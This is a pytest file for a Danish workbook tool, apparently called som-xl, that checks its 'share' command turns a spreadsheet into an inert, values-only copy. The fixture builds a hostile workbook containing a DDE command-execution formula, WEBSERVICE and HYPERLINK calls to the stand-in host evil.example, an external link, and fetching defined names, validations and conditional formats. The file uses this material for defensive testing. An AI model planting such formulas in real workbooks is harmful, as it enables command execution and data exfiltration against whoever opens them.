"""The shared copy is inert, and no output carries results of other inputs.

* ``som-xl share`` of a workbook stuffed with DDE, WEBSERVICE and HYPERLINK formulas, an
  external link, a defined name that fetches, hyperlinks, data validations, conditional
  formatting, a table with a calculated column, custom properties, custom XML and VBA:
  the copy's *parts* hold none of it, only values (point 8 of issue 12).
* Inputs changed after the last calculation: ``share`` refuses with the Danish message;
  ``case export`` and ``report`` compute the current inputs (point 5).
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from ooxml_vba.cached_values import restore_cached_values
from som_xl.case import compute, parse_case, read_case_file
from som_xl.cli.main import main
from som_xl.paths import examples_dir, template_path
from som_xl.service.workbooks import fill_from_case
from som_xl.workbook import layout as L
from tests.reliability.hostile import member, rezip

EXAMPLE = examples_dir() / "housing_first.json"
FORMULAS = {"Z1": ("=cmd|' /C calc'!A0", 7), "Z2": ('=WEBSERVICE("http://evil.example/x")', "svar"),
            "Z3": ('=HYPERLINK("http://evil.example","klik")', "klik"), "Z4": ("='[anden.xlsx]Ark1'!A1", 5)}
EXTERNAL_LINK = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1">'
    '<sheetNames><sheetName val="Ark1"/></sheetNames></externalBook></externalLink>')
EXTERNAL_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
    'Target="file:///C:/fremmed/anden.xlsx" TargetMode="External"/></Relationships>')


@pytest.fixture
def demo(tmp_path) -> Path:
    path = tmp_path / "demo.xlsm"
    fill_from_case(path, parse_case(read_case_file(EXAMPLE)), base=template_path())
    return path


def _with_external_link(package: bytes) -> bytes:
    """An external-link part, its relationships and its entry in workbook.xml."""
    wb = member(package, "xl/workbook.xml").decode()
    wb = wb.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rIdEvil"/>'
                                 "</externalReferences>", 1)
    rels = member(package, "xl/_rels/workbook.xml.rels").decode().replace(
        "</Relationships>", '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                            'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
    types = member(package, "[Content_Types].xml").decode().replace(
        "</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.'
                    'openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    root = member(package, "_rels/.rels").decode().replace(
        "</Relationships>", '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                            'relationships/customXml" Target="customXml/item1.xml"/></Relationships>')
    return rezip(package, replace={"xl/workbook.xml": wb.encode(), "xl/_rels/workbook.xml.rels": rels.encode(),
                                   "[Content_Types].xml": types.encode(), "_rels/.rels": root.encode()},
                 add={"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK.encode(),
                      "xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL_RELS.encode(),
                      "customXml/item1.xml": b"<evil>http://evil.example</evil>"})


def hostile_workbook(demo: Path) -> Path:
    wb = load_workbook(demo, keep_vba=True)
    res = wb[L.RESULTATER]
    for ref, (formula, _) in FORMULAS.items():
        res[ref] = formula
    wb.defined_names["hent"] = DefinedName("hent", attr_text='WEBSERVICE("http://evil.example/navn")')
    wb[L.INDSATS]["A1"].hyperlink = "http://evil.example/klik"
    dv = DataValidation(type="custom", formula1='=WEBSERVICE("http://evil.example/dv")')
    wb[L.INDSATS].add_data_validation(dv)
    dv.add("A2")
    res.conditional_formatting.add("Z5:Z6", FormulaRule(formula=['WEBSERVICE("http://evil.example/cf")']))
    res["Y10"], res["Z10"], res["Y11"], res["Z11"] = "a", "b", 1, "=Y11*2"
    table = Table(displayName="Tabel1", ref="Y10:Z11")
    table._initialise_columns()
    table.tableColumns[1] = TableColumn(id=2, name="b", calculatedColumnFormula=TableFormula(attr_text='WEBSERVICE("http://x")'))
    res.add_table(table)
    wb.custom_doc_props.append(StringProperty(name="hent", value="http://evil.example"))
    buf = io.BytesIO()
    wb.save(buf)
    cached = {(L.RESULTATER, ref): value for ref, (_, value) in FORMULAS.items()} | {(L.RESULTATER, "Z11"): 2}
    path = demo.with_name("fjendtlig.xlsm")
    path.write_bytes(_with_external_link(restore_cached_values(buf.getvalue(), cached)))
    return path


def test_the_hostile_workbook_really_carries_what_the_copy_must_not(demo):
    path = hostile_workbook(demo)
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        text = {n: z.read(n).decode("utf-8", "replace") for n in names if n.endswith((".xml", ".rels"))}
    assert "xl/vbaProject.bin" in names and "xl/externalLinks/externalLink1.xml" in names
    assert any("<f>" in t and "WEBSERVICE" in t for t in text.values())
    assert 'TargetMode="External"' in "".join(text.values())
    assert "customXml/item1.xml" in names and "docProps/custom.xml" in names
    assert 'name="hent"' in text["xl/workbook.xml"]


def test_the_shared_copy_holds_values_only_part_by_part(demo, tmp_path):
    path = hostile_workbook(demo)
    out = tmp_path / "kopi.xlsx"
    assert main(["share", str(path), "-o", str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        parts = {n: z.read(n).decode("utf-8") for n in names if n.endswith((".xml", ".rels", ".vml"))}
    assert not [n for n in names if n.startswith(("xl/externalLinks", "customXml", "xl/tables", "xl/pivot"))
                or "vbaProject" in n or n == "docProps/custom.xml" or n.endswith(".bin")], names
    everything = "".join(parts.values())
    assert 'TargetMode="External"' not in everything
    assert "macroEnabled" not in parts["[Content_Types].xml"]
    for name, xml in parts.items():
        if name.startswith("xl/worksheets/"):
            assert not re.search(r"<(?:\w+:)?f[\s>/]", xml), f"a formula in {name}"
            for tag in ("dataValidation", "conditionalFormatting", "hyperlink", "formula", "tablePart"):
                assert f"<{tag}" not in xml, f"{tag} in {name}"
        if name.startswith("xl/charts/"):
            refs = re.findall(r"<(?:c:)?f>([^<]*)</(?:c:)?f>", xml)
            assert refs and all("[" not in r and "(" not in r for r in refs), refs  # plain cells of the copy
    names_xml = re.findall(r'<definedName [^>]*name="([^"]+)"', parts["xl/workbook.xml"])
    assert set(names_xml) <= {"_xlnm.Print_Area", "_xlnm.Print_Titles"}, names_xml
    assert "externalReference" not in parts["xl/workbook.xml"]
    values = load_workbook(out)[L.RESULTATER]
    assert [values[ref].value for ref in FORMULAS] == [v for _, v in FORMULAS.values()]  # the values stay


def test_share_refuses_results_of_other_inputs_and_says_press_beregn(demo, capsys):
    wb = load_workbook(demo, keep_vba=True)
    row, col = L.field_cell(L.field_by_key("effect.success_rate"))
    wb[L.INDSATS].cell(row=row, column=col, value=0.4)
    wb.save(demo)
    assert main(["share", str(demo)]) == 2
    assert "Resultaterne er ikke beregnet for de nuværende input — tryk Beregn" in capsys.readouterr().err
    assert not demo.with_name("demo_deling.xlsx").exists()
    assert main(["recalc", str(demo)]) == 0
    assert main(["share", str(demo)]) == 0


def test_export_and_report_compute_the_current_inputs(demo, tmp_path):
    wb = load_workbook(demo, keep_vba=True)
    row, col = L.field_cell(L.field_by_key("effect.success_rate"))
    wb[L.INDSATS].cell(row=row, column=col, value=0.4)
    wb.save(demo)
    data = json.loads(EXAMPLE.read_text("utf-8"))
    data["effect"]["success_rate"] = 0.4
    fresh = compute(parse_case(data)).results.npv
    assert main(["case", "export", str(demo), "-o", str(tmp_path / "sag.json")]) == 0
    exported = json.loads((tmp_path / "sag.json").read_text("utf-8"))
    assert exported["provenance"]["npv"]["total"] == pytest.approx(float(fresh[3]))
    assert main(["report", str(demo), "-o", str(tmp_path / "o.md"), "--format", "md"]) == 0
    from som_xl import fmt

    assert fmt.kroner(float(fresh[3])) in (tmp_path / "o.md").read_text("utf-8")
